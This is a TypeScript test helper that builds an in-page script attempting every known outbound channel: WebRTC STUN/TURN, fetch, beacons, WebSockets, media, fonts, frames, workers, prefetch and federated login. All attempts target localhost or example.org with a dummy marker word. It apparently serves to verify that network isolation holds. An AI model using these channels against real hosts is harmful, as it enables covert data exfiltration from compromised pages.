/**
 * Every way known here by which a page can try to send something, as text that runs in a page: what an attacker who has taken the page over
 * would run. Addresses are this computer's, and names below `example.org`; the word is `hemligt`.
 */

/** @returns an expression; its value is a promise of the outcome of each attempt, `name: outcome` */
export const leakScript = ({ udp, tcp }: { readonly udp: number; readonly tcp: number }): string => `(async () => {
  const [udp, tcp] = [${udp}, ${tcp}];
  const wait = (time) => new Promise((resolve) => setTimeout(resolve, time));
  const outcomes = [];
  const attempts = [];
  const attempt = (name, act) => attempts.push((async () => {
    try {
      outcomes.push(name + ': ' + await Promise.race([act(), wait(1500).then(() => 'nothing came of it')]));
    } catch (error) {
      outcomes.push(name + ': ' + error.name);
    }
  })());
  const event = (source, good) => new Promise((resolve, reject) => {
    source[good] = () => resolve('came through');
    source.onerror = () => reject(new Error());
  });
  const element = (tag, values, parent = document.head) => parent.append(Object.assign(document.createElement(tag), values));

  const gather = async (iceServers, more) => {
    const connection = new RTCPeerConnection({ iceServers, ...more });
    connection.createDataChannel('x');
    await connection.setLocalDescription(await connection.createOffer());
    await wait(1200);
    return connection.iceGatheringState;
  };
  const relay = { iceTransportPolicy: 'relay' };
  const secret = { username: 'hemligt', credential: 'hemligt' };
  attempt('webrtc stun', () => gather([{ urls: 'stun:127.0.0.1:' + udp }]));
  attempt('webrtc turn', () => gather([{ urls: 'turn:127.0.0.1:' + udp + '?transport=udp', ...secret }], relay));
  attempt('webrtc turn tcp', () => gather([{ urls: 'turn:127.0.0.1:' + tcp + '?transport=tcp', ...secret }], relay));
  attempt('webrtc turns', () => gather([{ urls: 'turns:127.0.0.1:' + tcp + '?transport=tcp', ...secret }], relay));
  attempt('webrtc name', () => gather([{ urls: 'stun:hemligt-stun.example.org:' + udp }]));
  attempt('webrtc from a frame', async () => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    const connection = new frame.contentWindow.RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + udp }] });
    connection.createDataChannel('x');
    await connection.setLocalDescription(await connection.createOffer());
    await wait(1200);
    return connection.iceGatheringState;
  });
  attempt('webrtc candidate', async () => {
    const [one, other] = [new RTCPeerConnection(), new RTCPeerConnection()];
    one.createDataChannel('x');
    const offer = await one.createOffer();
    await one.setLocalDescription(offer);
    await other.setRemoteDescription(offer);
    const answer = await other.createAnswer();
    await other.setLocalDescription(answer);
    await one.setRemoteDescription(answer);
    for (const candidate of [
      'candidate:1 1 udp 2122260223 127.0.0.1 ' + udp + ' typ host generation 0',
      'candidate:2 1 tcp 1518280447 127.0.0.1 ' + tcp + ' typ host tcptype passive generation 0',
      'candidate:3 1 udp 2122260223 0f3c2a52-1111-4444-8888-aaaaaaaaaaaa.local ' + udp + ' typ host generation 0',
    ]) await one.addIceCandidate({ candidate, sdpMid: '0' });
    await wait(1200);
    return one.iceConnectionState;
  });

  for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'preload', 'modulepreload', 'icon', 'manifest', 'stylesheet', 'prerender'])
    for (const href of ['http://127.0.0.1:' + tcp + '/' + rel, 'https://hemligt-' + rel + '.example.org:' + tcp + '/'])
      attempt('link ' + rel, async () => element('link', { rel, href, as: 'image' }));
  attempt('webtransport', async () => {
    const transport = new WebTransport('https://127.0.0.1:' + udp + '/hemligt');
    transport.closed.catch(() => undefined);
    await transport.ready;
  });
  attempt('fetch', () => fetch('http://127.0.0.1:' + tcp + '/hemligt', { mode: 'no-cors' }));
  attempt('fetch name', () => fetch('https://hemligt-fetch.example.org:' + tcp + '/', { mode: 'no-cors' }));
  attempt('fetch keepalive', () => fetch('http://127.0.0.1:' + tcp + '/hemligt', { mode: 'no-cors', keepalive: true, method: 'POST', body: 'hemligt' }));
  attempt('fetch later', async () => fetchLater('https://127.0.0.1:' + tcp + '/hemligt', { activateAfter: 0 }));
  attempt('beacon', async () => navigator.sendBeacon('http://127.0.0.1:' + tcp + '/', 'hemligt'));
  attempt('websocket', () => event(new WebSocket('ws://127.0.0.1:' + tcp + '/hemligt'), 'onopen'));
  attempt('eventsource', () => event(new EventSource('http://127.0.0.1:' + tcp + '/hemligt'), 'onopen'));
  attempt('image', () => {
    const image = new Image();
    const loaded = event(image, 'onload');
    image.src = 'http://127.0.0.1:' + tcp + '/hemligt.png';
    return loaded;
  });
  attempt('media', () => {
    const audio = new Audio();
    const loaded = event(audio, 'onloadeddata');
    audio.src = 'http://127.0.0.1:' + tcp + '/hemligt.mp3';
    return loaded;
  });
  attempt('font', () => new FontFace('x', 'url(http://127.0.0.1:' + tcp + '/hemligt.woff2)').load());
  attempt('style', async () => {
    document.body.style.backgroundImage = 'url(http://127.0.0.1:' + tcp + '/hemligt.png)';
  });
  attempt('frame', async () => element('iframe', { src: 'http://127.0.0.1:' + tcp + '/hemligt' }, document.body));
  attempt('worker', async () => new Worker('https://hemligt-worker.example.org:' + tcp + '/x.js'));
  attempt('speculation', async () => {
    const urls = ['http://127.0.0.1:' + tcp + '/hemligt', 'https://hemligt-speculation.example.org:' + tcp + '/'];
    element('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'list', urls, eagerness: 'immediate' }] }) });
  });
  attempt('ping', async () => {
    const link = Object.assign(document.createElement('a'), { href: '#x', ping: 'http://127.0.0.1:' + tcp + '/hemligt' });
    document.body.append(link);
    link.click();
  });
  attempt('federated login', () => navigator.credentials.get({
    identity: { providers: [{ configURL: 'https://hemligt-login.example.org:' + tcp + '/c.json', clientId: 'hemligt' }] },
  }));
  await Promise.all(attempts);
  return outcomes;
})()`;
